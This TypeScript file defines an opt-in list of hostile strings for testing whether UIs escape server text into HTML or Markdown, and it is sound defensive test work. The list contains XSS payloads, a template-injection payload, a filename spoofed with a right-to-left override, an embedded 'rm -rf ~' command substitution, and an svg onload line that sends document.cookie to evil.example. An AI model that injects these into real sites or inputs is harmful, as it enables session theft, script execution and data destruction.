/**
 * Opt-in (`hostile: true`) strings that break UIs which interpolate server text into HTML or Markdown.
 * They are inert data; a client that escapes correctly shows them verbatim.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.domain)</script>',
  '[click me](command:workbench.action.terminal.new)',
  '${{ github.token }} `$(rm -rf ~)`',
  'javascript:alert(1)//',
  '<svg/onload=fetch("https://evil.example/"+document.cookie)>',
  '\u202Egnp.exe',
  '{{constructor.constructor("alert(1)")()}}',
];

export function hostileSuffix(i: number): string {
  return HOSTILE_STRINGS[i % HOSTILE_STRINGS.length];
}
